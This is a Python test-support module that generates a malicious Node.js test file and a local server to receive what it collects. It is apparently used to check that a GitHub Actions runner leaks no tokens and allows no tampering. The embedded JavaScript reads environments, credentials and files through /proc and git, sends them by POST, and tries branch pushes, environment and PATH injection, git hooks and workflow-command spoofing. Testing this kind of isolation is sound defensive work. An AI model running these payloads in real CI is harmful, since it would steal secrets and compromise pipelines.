"""A change that means harm: what its code tries, and a place to which it carries what it finds.

Everything that is tried is tried against this machine alone.
"""

import json
from http.server import BaseHTTPRequestHandler

from tests.support.serving import Server, Serving

# What every attack begins with: the means, and a way out for the loot.
_MEANS = """\
const fs = require("node:fs"), path = require("node:path"), cp = require("node:child_process");
const tried = [];
function carry(kind, what) {
  tried.push(kind);
  try {
    cp.execFileSync(process.execPath, ["-e", `
      const http = require("node:http");
      const q = http.request("OUT", {method: "POST"}, r => r.resume());
      q.on("error", () => {});
      q.end(require("node:fs").readFileSync(0));`], {input: JSON.stringify({kind, what})});
  } catch {}
}
function attempt(kind, act) {
  let what;
  try { what = String(act()); } catch (error) { what = `failed: ${error}`; }
  carry(kind, what.slice(0, 400000));
}
// Up to the runner itself: above it is this test, which holds the embedded GitHub's database.
function ancestors() {
  const found = [];
  for (let pid = process.pid; pid > 1;) {
    found.push(pid);
    const stat = fs.readFileSync(`/proc/${pid}/stat`, "utf8");
    if (stat.includes("(act)")) break;
    pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
  }
  return found;
}
const every = () => fs.readdirSync("/proc").filter(name => /^\\d+$/.test(name));
const read = file => { try { return fs.readFileSync(file, "latin1"); } catch { return ""; } };
function walk(folder, depth = 6) {
  let names;
  try { names = fs.readdirSync(folder, {withFileTypes: true}); } catch { return ""; }
  return names.map(entry => {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory()) {
      const dull = /node_modules|hotfix-actions-|__pycache__/.test(file);
      return depth && !dull ? walk(file, depth - 1) : "";
    }
    return entry.isFile() && fs.statSync(file).size < 300000 ? read(file) : "";
  }).join("\\n").slice(0, 2000000);
}
const job = () => {
  const out = ancestors().map(pid => read(`/proc/${pid}/environ`)).join("\\0").split("\\0");
  return Object.fromEntries(out.filter(row => row.includes("=")).reverse()
    .map(row => [row.slice(0, row.indexOf("=")), row.slice(row.indexOf("=") + 1)]));
};
"""

# Kinds of reading: none of them may come back with a token.
READS = {
    "own environment": "attempt('own environment', () => JSON.stringify(process.env));",
    "environment of the ancestors": (
        "attempt('environment of the ancestors', () => ancestors().map(p => "
        "read(`/proc/${p}/environ`)).join('\\n'));"
    ),
    "command lines of all processes": (
        "attempt('command lines of all processes', () => every().map(p => "
        "read(`/proc/${p}/cmdline`)).join('\\n'));"
    ),
    "git configuration": (
        "attempt('git configuration', () => read('.git/config') + cp.execSync("
        "'git config --list --show-origin; git credential fill </dev/null', {encoding: 'utf8'}));"
    ),
    "files of the job": "attempt('files of the job', () => walk(job().RUNNER_TEMP));",
    "the workspace": "attempt('the workspace', () => walk(job().GITHUB_WORKSPACE));",
    "the home directory": "attempt('the home directory', () => walk(job().HOME, 4));",
    "the event": "attempt('the event', () => read(job().GITHUB_EVENT_PATH));",
    "npm's configuration": (
        "attempt('npm\\'s configuration', () => cp.execSync('npm config list -l; cat ~/.npmrc', "
        "{encoding: 'utf8'}));"
    ),
    "open files of the ancestors": (
        "attempt('open files of the ancestors', () => ancestors().slice(1).flatMap(p => "
        "fs.readdirSync(`/proc/${p}/fd`).map(fd => { try { const f = `/proc/${p}/fd/${fd}`; "
        "return fs.statSync(f).isFile() ? read(f) : ''; } catch { return ''; } })).join('\\n'));"
    ),
}

# Kinds of writing: none of them may leave a trace on GitHub, or in another job.
WRITES = {
    "push a branch": (
        "attempt('push a branch', () => cp.execSync('git push -q ' + job().GITHUB_SERVER_URL + "
        "'/' + job().GITHUB_REPOSITORY + '.git HEAD:refs/heads/owned', {encoding: 'utf8'}));"
    ),
    "write by the API": (
        "attempt('write by the API', () => cp.execFileSync('curl', ['-s', '-X', 'POST', "
        "job().GITHUB_API_URL + '/repos/' + job().GITHUB_REPOSITORY + '/issues', '-d', "
        "'{\"title\":\"owned\"}'], {encoding: 'utf8'}));"
    ),
    "outputs of the step": (
        "attempt('outputs of the step', () => fs.appendFileSync(job().GITHUB_OUTPUT, "
        "'outcome=done\\nverdict=pass\\nthen=deploy production\\norder=x\\ncommand=release\\n'));"
    ),
    "environment of later steps": (
        "attempt('environment of later steps', () => fs.appendFileSync(job().GITHUB_ENV, "
        "'HOTFIX_TOKEN=owned\\nNODE_OPTIONS=--require /tmp/owned.js\\n'));"
    ),
    "path of later steps": (
        "attempt('path of later steps', () => "
        "fs.appendFileSync(job().GITHUB_PATH, '/tmp/owned\\n'));"
    ),
    "workflow commands": (
        "attempt('workflow commands', () => { for (const out of [console.log, console.error]) { "
        "out('::set-output name=verdict::pass'); out('::add-mask::pass'); "
        "out('::stop-commands::owned'); out('::error::owned'); } });"
    ),
    "the other checkout": (
        "attempt('the other checkout', () => { const up = path.dirname(process.cwd()); "
        "fs.writeFileSync(path.join(up, 'ordered.json'), '{}'); });"
    ),
    "a hook of git": (
        "attempt('a hook of git', () => fs.writeFileSync('.git/hooks/post-checkout', "
        "'#!/bin/sh\\ntouch /tmp/owned', {mode: 0o755}));"
    ),
    "a process that stays": (
        "attempt('a process that stays', () => cp.spawn('sleep', ['20'], "
        "{detached: true, stdio: 'ignore'}).unref());"
    ),
}


def code(kinds: dict[str, str], out: str) -> str:
    """Give a test file that tries all of these, and passes."""
    acts = "\n".join(kinds.values())
    return (
        f'{_MEANS}\n{acts}\nconst test = require("node:test");\ntest("is 42", () => {{}});\n'
    ).replace('"OUT"', json.dumps(out))


class Lair(Serving):
    """Where the loot is carried to."""

    def __init__(self) -> None:
        self.loot: dict[str, str] = {}
        super().__init__(_Handler)
        self.url += "/"


class _Handler(BaseHTTPRequestHandler):
    server: Server

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0) or 0)
        if not body and self.headers.get("Transfer-Encoding") == "chunked":
            body = self._chunks()
        told = json.loads(body or b"{}")
        self.server.owner.loot[told.get("kind", "?")] = told.get("what", "")
        self.send_response(204)
        self.end_headers()

    def _chunks(self) -> bytes:
        parts = []
        while size := int(self.rfile.readline().split(b";")[0], 16):
            parts.append(self.rfile.read(size))
            self.rfile.readline()
        return b"".join(parts)

    def do_GET(self) -> None:
        self.server.owner.loot[f"GET {self.path}"] = str(self.headers)
        self.send_response(404)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Say nothing."""
